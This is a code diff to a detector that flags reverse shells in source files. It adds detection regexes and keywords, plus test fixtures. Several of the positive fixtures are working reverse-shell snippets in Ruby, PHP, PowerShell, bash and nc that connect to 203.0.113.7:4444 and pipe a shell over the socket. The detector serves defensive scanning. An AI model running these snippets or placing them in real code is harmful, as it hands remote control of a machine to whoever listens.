@@ -2,6 +2,7 @@ import type { FileCheck } from '../../check.ts';
 import type { Act } from '../../facts/acts/act.ts';
 import { isSentBack } from '../../facts/acts/sent-back.ts';
 import type { Flow } from '../../facts/flow/flow-facts.ts';
+import { SOCKET_SHELLS } from '../../knowledge/socket-shells.ts';
 import { COMMAND_SINKS } from '../../knowledge/sinks/command.ts';
 import { traceOf } from '../../knowledge/source-trust.ts';
 
@@ -13,8 +14,7 @@ const FORMS: readonly RegExp[] = [
   /\bmkfifo\s[^\n]{1,120}\|\s{0,3}(?:\/bin\/)?(?:ba|z)?sh\b[^\n]{0,60}\|\s{0,3}(?:nc|ncat|netcat|openssl s_client)\b/g,
   /\bsocat\b[^\n]{0,120}\bexec:["']?[^\s,'"]{0,30}sh\b/gi,
   /\bos\.dup2\(\s{0,3}\w{1,40}\.fileno\(\)\s{0,3},\s{0,3}[012]\s{0,3}\)/g,
-  // A program of Go whose streams are the connection that was opened.
-  /\b(\w{1,40}),\s{0,3}\w{1,40}\s{0,3}:?=\s{0,3}(?:net|tls)\.Dial(?:Timeout)?\([^\n]{1,200}\n(?:[^\n]{0,300}\n){0,40}?[^\n]{0,100}\.Stdin\s{0,9}=\s{0,3}\1\b/g,
+  ...SOCKET_SHELLS,
 ];
 /** A socket opened by number is a shell's where a shell reads from it, or what is read from it is run. */
 const READ_BY_SHELL =
@@ -40,7 +40,18 @@ export const check: FileCheck = {
     Where a remote console is meant, use one that authenticates, such as SSH.`,
   blindSpots: 'A shell that is built from parts at run time is not recognised by its text.',
   wants: {
-    keywords: ['/dev/tcp/', '/dev/udp/', '.dup2(', '.dial('],
+    keywords: [
+      '/dev/tcp/',
+      '/dev/udp/',
+      '.dup2(',
+      '.dial(',
+      'fsockopen',
+      'stream_socket_client',
+      'tcpsocket',
+      'tcpstream::connect',
+      'new socket',
+      'tcpclient',
+    ],
     words: ['nc ', 'ncat ', 'netcat ', 'mkfifo ', 'socat '],
     acts: ['remote-control'],
     sinks: COMMAND_SINKS,
@@ -82,6 +93,25 @@ export const check: FileCheck = {
               conn.Write(out)
             }
           }`,
+      },
+      {
+        'lib/run.rb': `
+          require 'socket'
+          «s = TCPSocket.new('203.0.113.7', 4444)
+          while (line = s.gets)
+            IO.popen(line») { |io| s.print io.read }
+          end`,
+      },
+      {
+        'run.php':
+          '<?php\n«$s = fsockopen("203.0.113.7", 4444);\nproc_open("/bin/sh -i", [0 => $s», 1 => $s, 2 => $s], $p);\n',
+      },
+      {
+        'run.ps1': `
+          $c = New-Object System.«Net.Sockets.TCPClient('203.0.113.7', 4444);
+          $s = $c.GetStream(); $line = Read-Line $s
+          $out = (iex $line 2>&1 | Out-String)
+          $s.Write(»[Text.Encoding]::ASCII.GetBytes($out), 0, $out.Length)`,
       },
       { 'job.yaml': 'steps:\n  - run: "«nc -e /bin/sh» 10.0.0.1 4444"\n' },
       { 'setup.sh': '«bash -i >& /dev/tcp/203.0.113.7/4444» 0>&1' },
@@ -142,6 +172,19 @@ export const check: FileCheck = {
             out, _ := exec.Command("uptime").Output()
             conn.Write(out)
           }`,
+      },
+      {
+        'lib/client.rb': `
+          socket = TCPSocket.new('127.0.0.1', 25)
+          line = socket.gets
+          puts line
+          system('make')`,
+      },
+      {
+        'Client.java': `
+          Socket socket = new Socket("mail.acme.io", 25);
+          socket.getOutputStream().write(hello);
+          new ProcessBuilder("git", "status").start();`,
       },
       { 'filter.yaml': 'words:\n  - keyword: "nc -e /bin/sh"\n    severity: high\n' },
       { 'wait.sh': 'until nc -z localhost 5432; do sleep 1; done' },
